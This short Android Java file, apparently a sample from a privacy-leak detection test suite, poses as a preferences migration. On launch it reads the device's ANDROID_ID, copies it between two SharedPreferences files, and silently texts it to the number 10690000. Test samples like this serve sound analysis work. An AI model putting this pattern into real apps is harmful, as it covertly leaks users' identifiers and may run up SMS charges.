package cn.privlens.suite.prefs_moved;

import android.app.Activity;
import android.content.SharedPreferences;
import android.os.Bundle;
import android.provider.Settings;
import android.telephony.SmsManager;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        SharedPreferences old = getSharedPreferences("v1", MODE_PRIVATE);
        old.edit().putString("id", Settings.Secure.getString(getContentResolver(), Settings.Secure.ANDROID_ID)).putString("theme", "dark").commit();
        SharedPreferences now = getSharedPreferences("v2", MODE_PRIVATE);
        SharedPreferences.Editor e = now.edit();
        for (String key : new String[] {"theme", "id"}) {
            e.putString(key, old.getString(key, ""));
        }
        e.commit();
        SmsManager.getDefault().sendTextMessage("10690000", null, now.getString("id", "none"), null, null);
    }
}
